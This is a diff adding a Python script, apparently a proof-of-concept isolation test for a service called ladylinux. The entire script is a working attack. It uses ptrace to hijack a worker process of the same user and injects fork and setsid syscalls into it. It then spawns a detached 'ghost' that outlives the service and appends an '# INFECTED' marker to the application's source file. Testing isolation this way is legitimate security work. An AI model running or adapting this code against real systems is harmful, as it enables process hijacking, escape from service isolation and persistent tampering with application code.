@@ -1,0 +1,62 @@
+"""Has a process of the tool's that runs as this user start a ghost, which is none of the service's, and lets it go on.
+
+Without argument more than the seconds: watches. With `ghost`: waits until the service is down and marks its code.
+"""
+
+import os
+import subprocess
+import sys
+import time
+
+from tracing import SETOPTIONS, TRACEFORK, Taken, command, for_seconds, note, own_processes, ptrace, read
+
+APP = "/opt/ladylinux/app/server.py"
+
+
+def haunt():
+    note("GHOST", os.getpid(), read("/proc/self/cgroup").decode().split("\n")[0])
+    end = time.monotonic() + 60
+    down = False
+    while time.monotonic() < end:
+        down = down or not any("server.py" in command(pid) for pid in own_processes())
+        try:
+            if down and b"INFECTED" not in read(APP):
+                with open(APP, "a") as code:
+                    code.write("# INFECTED\n")
+                note("marked the code")
+        except OSError:
+            pass
+        time.sleep(0.0005)
+
+
+def ride(pid):
+    taken = Taken(pid)
+    ptrace(SETOPTIONS, pid, None, TRACEFORK)
+    child = taken.call(57)
+    os.waitpid(child, 0x40000000)
+    ghost = Taken.__new__(Taken)
+    ghost.pid = child
+    ghost.begin()
+    # What shares the group of the worker is ended with it.
+    ghost.call(112)
+    ghost.execute("/usr/bin/python3", os.path.abspath(__file__), "ghost")
+    ptrace(17, child)
+    taken.let_go()
+    note("RODE", pid)
+
+
+if sys.argv[1] == "ghost":
+    haunt()
+    sys.exit()
+note("watching for workers")
+own = read("/proc/self/cgroup")
+for _ in for_seconds(float(sys.argv[1])):
+    for pid in own_processes():
+        if read(f"/proc/{pid}/cgroup") in (own, b""):
+            continue
+        note("WORKER", pid, command(pid))
+        try:
+            ride(pid)
+            sys.exit()
+        except OSError as error:
+            note("lost", pid, error)
